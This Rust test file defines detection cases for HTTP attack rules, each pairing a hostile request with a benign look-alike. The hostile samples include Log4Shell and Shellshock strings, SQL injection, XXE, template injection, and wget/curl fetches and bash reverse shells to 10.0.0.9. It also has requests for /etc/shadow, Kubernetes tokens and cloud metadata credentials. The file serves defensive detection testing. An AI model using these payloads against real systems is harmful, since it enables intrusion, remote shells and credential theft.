//! Cases of the rules on HTTP.

use std::net::IpAddr;

use super::{
    Case, case,
    wire::{answer, client, get, gzip, header, http2_get, post, request, server},
};

/// Attacks on what runs behind a web server.
pub(crate) fn cases() -> Vec<Case> {
    [
        in_headers(),
        lookups_and_expressions(),
        databases(),
        scripts(),
        files(),
        docker(),
        kubernetes(),
        metadata(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn in_headers() -> Vec<Case> {
    let ognl = "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}";
    vec![
        case(
            7_000_001,
            80,
            header("User-Agent: () { :;}; /bin/id"),
            post("/x", "function main() { return 1 }"),
        ),
        case(
            7_000_002,
            80,
            header("X: ${JNDI:ldap://10.0.0.9/a}"),
            [get("/docs?q=jndi:ldap://x"), header("X: ${jndi}")].concat(),
        ),
        case(
            7_000_003,
            8080,
            header("X: ${${::-j}ndi:rmi://10.0.0.9/a}"),
            header("X: ${${name:-a}}; see http://example"),
        ),
        case(
            7_000_004,
            80,
            header("X: ${jnd${lower:i}:ldap://x/a}"),
            header("X: ${lower:HOST} http://x/"),
        ),
        case(
            7_000_008,
            80,
            header(&format!("Content-Type: {ognl}")),
            header("Content-Type: multipart/form-data; ognl"),
        ),
        case(
            7_000_103,
            25,
            client("EHLO ${jndi:ldap://10.0.0.9/a}\r\n"),
            client("EHLO ${jndi}\r\n"),
        ),
        case(
            7_000_095,
            80,
            request(
                "POST",
                "/",
                "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
                b"",
            ),
            request(
                "POST",
                "/",
                "X-Transfer-Encoding: chunked\r\nContent-Length: 0\r\n",
                b"",
            ),
        ),
        case(
            7_000_096,
            80,
            request("POST", "/", "Content-Length: -1\r\n", b""),
            request("POST", "/", "Content-Length: 0\r\n", b""),
        ),
    ]
}

fn lookups_and_expressions() -> Vec<Case> {
    vec![
        case(
            7_000_009,
            80,
            post("/", "class.module.classLoader.resources.context.x=1"),
            post("/", "{\"class\":\"module\",\"loader\":\"x=1\"}"),
        ),
        case(
            7_000_010,
            8443,
            post(
                "/",
                "{\"kind\":\"AdmissionReview\",\"nginx.ingress.kubernetes.io/auth-url\":\"x;}}ssl_engine /proc/1/fd/3;\"}",
            ),
            post(
                "/",
                "{\"kind\":\"AdmissionReview\",\"nginx.ingress.kubernetes.io/rewrite-target\":\"/\"}",
            ),
        ),
        case(
            7_000_100,
            80,
            get("/?q=$%7bjndi:ldap:%2f%2f10.0.0.9/a%7d"),
            get("/?q=$%7bname%7d"),
        ),
        case(
            7_000_101,
            80,
            post("/", "user=${jndi:ldap://10.0.0.9/a}"),
            post("/", "user=${j} and jndi:"),
        ),
        case(
            7_000_102,
            80,
            post("/", "{\"u\":\"\\u0024\\u007bjndi:ldap://10.0.0.9/a}\"}"),
            post("/", "{\"price\":\"\\u00247\"}"),
        ),
        case(
            7_000_104,
            8090,
            get("/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/"),
            get("/%7Bid%7D/java.lang.String"),
        ),
        case(
            7_000_105,
            80,
            post("/", "id=%25%7b%23_memberAccess%3d1%7d"),
            post("/", "id=_memberAccess"),
        ),
        case(
            7_000_106,
            80,
            get("/?class.module.classLoader.URLs%5B0%5D=0"),
            get("/?class=module.classLoader"),
        ),
    ]
}

fn databases() -> Vec<Case> {
    vec![
        case(
            7_000_013,
            80,
            get("/?id=1+UNION+ALL+SELECT+1,2"),
            get("/union-square?select=1,2"),
        ),
        case(
            7_000_014,
            80,
            post(
                "/",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>",
            ),
            post("/", "<!DOCTYPE a [<!ENTITY x \"SYSTEM\">]><p>file:///x</p>"),
        ),
        case(
            7_000_098,
            80,
            get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            get("/?q=a%3Cb&script=main"),
        ),
        case(
            7_000_107,
            80,
            post("/", "id=1%20union%20select%20null,user()"),
            post("/", "id=union&select=1,2"),
        ),
        case(
            7_000_108,
            80,
            get("/?u=a%27%20or%201=1--"),
            get("/?u=O%27Brien+or+1"),
        ),
        case(
            7_000_109,
            80,
            get("/?id=1;SELECT+pg_sleep(5)"),
            get("/?q=sleep+(8+hours)"),
        ),
    ]
}

fn scripts() -> Vec<Case> {
    vec![
        case(
            7_000_011,
            80,
            post(
                "/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                "<?php",
            ),
            get("/manual?allow_url_include&auto_prepend_file=none"),
        ),
        case(
            7_000_012,
            80,
            post(
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "<?php",
            ),
            get("/vendor/phpunit/phpunit/README.md"),
        ),
        case(
            7_000_015,
            80,
            get("/?n={{''.__class__.__mro__[1].__subclasses__()}}"),
            get("/?n=x.__class__.__name__"),
        ),
        case(
            7_000_016,
            80,
            get("/ping?h=1;wget%20http://10.0.0.9/x"),
            get("/wget%20http.html"),
        ),
        case(
            7_000_018,
            80,
            get("/ping?host=a;$(curl${IFS}10.0.0.9/x)"),
            post("/job", "{\"run\":\"v=$(curl -s http://a/v)\"}"),
        ),
        case(
            7_000_110,
            80,
            post("/", "n={{().__class__.__base__.__subclasses__()}}"),
            post("/", "n=__subclasses__ of __class__"),
        ),
        case(
            7_000_027,
            80,
            get("/?c=bash+-i+%3E%26+/dev/tcp/10.0.0.9/4444+0%3E%261"),
            get("/?c=/dev/tcp"),
        ),
        case(
            7_000_028,
            80,
            post(
                "/",
                "c=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.9%2F4444+0%3E%261",
            ),
            post("/", "c=%2Fdev%2Ftcp%2F"),
        ),
    ]
}

fn files() -> Vec<Case> {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    let ask = || get("/?f=/etc/passwd");
    let root = b"root:x:0:0:root:/root:/bin/sh\n";
    let script = b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n";
    vec![
        case(7_000_005, 80, get("/a/../../../etc/shadow"), get("/a/../b")),
        case(
            7_000_006,
            80,
            get("/icons/%2E%2e/%2e%2E/bin/sh"),
            get("/icons/%2e%2e/x"),
        ),
        case(7_000_007, 80, ask(), get("/etc/passwords.html")),
        case(
            7_000_019,
            80,
            [ask(), answer("200 OK", "", root)].concat(),
            [ask(), answer("404 Not Found", "", b"root: not found")].concat(),
        ),
        case(
            7_000_017,
            80,
            [get("/x"), answer("200 OK", "", elf)].concat(),
            [get("/x"), answer("200 OK", "", b"about \x7fELF files")].concat(),
        ),
        case(
            7_000_111,
            80,
            request("PUT", "/x", "", elf),
            request("PUT", "/x", "", b"about \x7fELF"),
        ),
        case(
            7_000_029,
            80,
            [get("/x.sh"), answer("200 OK", "", script)].concat(),
            [get("/x"), answer("200 OK", "", b"see /dev/tcp/HOST/PORT")].concat(),
        ),
        case(
            7_000_114,
            80,
            [
                get("/"),
                answer(
                    "200 OK",
                    "Content-Encoding: gzip\r\n",
                    &gzip(b"uid=0(root) gid=0(root)\n"),
                ),
            ]
            .concat(),
            [
                get("/"),
                answer(
                    "200 OK",
                    "Content-Encoding: gzip\r\n",
                    &gzip(b"uid=1(app) gid=1(app)\n"),
                ),
            ]
            .concat(),
        ),
    ]
}

fn docker() -> Vec<Case> {
    let create = || post("/v1.41/containers/create?name=x", "{\"Image\":\"a\"}");
    vec![
        case(
            7_000_030,
            2375,
            create(),
            get("/docs/containers/create.html"),
        ),
        case(
            7_000_044,
            2375,
            [
                create(),
                answer("201 Created", "", b"{\"Id\":\"0a1b\",\"Warnings\":[]}\n"),
            ]
            .concat(),
            [
                create(),
                answer("404 Not Found", "", b"{\"message\":\"No such image: a\"}"),
            ]
            .concat(),
        ),
        case(
            7_000_031,
            2375,
            post("/v1.41/containers/0123456789ab/exec", "{}"),
            post("/jobs/exec", "{}"),
        ),
        case(
            7_000_032,
            2375,
            get("/version"),
            client("\x16\x03\x01 GET / HTTP/1.1"),
        ),
    ]
}

fn kubernetes() -> Vec<Case> {
    let token = "eyJhbGciOiJSUzI1NiIs.eyJpc3MiOiJrdWJl.c2ln";
    let read = || get("/static//var/run/secrets/kubernetes.io/serviceaccount/token");
    vec![
        case(7_000_033, 10_255, get("/runningpods/"), get("/healthz")),
        case(
            7_000_034,
            10_250,
            post("/run/default/web/nginx", "cmd=id"),
            get("/running"),
        ),
        case(
            7_000_035,
            2379,
            get("/v2/keys/?recursive=true"),
            get("/health"),
        ),
        case(
            7_000_036,
            2379,
            post("/v3beta/kv/range", "{}"),
            post("/v3/auth/status", "{}"),
        ),
        case(
            7_000_045,
            2379,
            http2_get("/etcdserverpb.KV/Range", ("te", "trailers")),
            http2_get("/etcdserverpb.Maintenance/Status", ("te", "trailers")),
        ),
        case(
            7_000_037,
            6443,
            get("/api/v1/namespaces/default/secrets"),
            get("/api/v1/namespaces/default/pods"),
        ),
        case(7_000_038, 80, read(), get("/secrets/kubernetes.io.html")),
        case(
            7_000_046,
            80,
            [read(), answer("200 OK", "", token.as_bytes())].concat(),
            [get("/login"), answer("200 OK", "", token.as_bytes())].concat(),
        ),
        case(
            7_000_039,
            10_250,
            post("/exec/default/web/app?command=id&output=1", ""),
            get("/metrics/exec/"),
        ),
        case(
            7_000_060,
            9200,
            get("/_cat/indices?v"),
            request("GET", "/_cat/indices", "Authorization: Basic x\r\n", b""),
        ),
    ]
}

fn metadata() -> Vec<Case> {
    let role = || get("/latest/meta-data/iam/security-credentials/role");
    let at = |address: [u8; 4], case: Case| Case {
        to: (IpAddr::from(address), 80),
        ..case
    };
    vec![
        case(7_000_040, 80, role(), get("/latest/meta-data.html")),
        case(
            7_000_047,
            80,
            [
                role(),
                answer("200 OK", "", b"{\"SecretAccessKey\" : \"x\"}"),
            ]
            .concat(),
            [role(), answer("404 Not Found", "", b"")].concat(),
        ),
        at(
            [169, 254, 169, 254],
            case(7_000_041, 80, get("/latest/api/token"), client("not http")),
        ),
        case(
            7_000_042,
            80,
            get("/computeMetadata/v1/instance/service-accounts/default/token"),
            get("/computeMetadata/v1/instance/name"),
        ),
        at(
            [169, 254, 170, 2],
            case(
                7_000_043,
                80,
                get("/v2/credentials/0a1b"),
                [get("/v2/metadata"), server("HTTP/1.1 200 OK\r\n\r\n")].concat(),
            ),
        ),
    ]
}
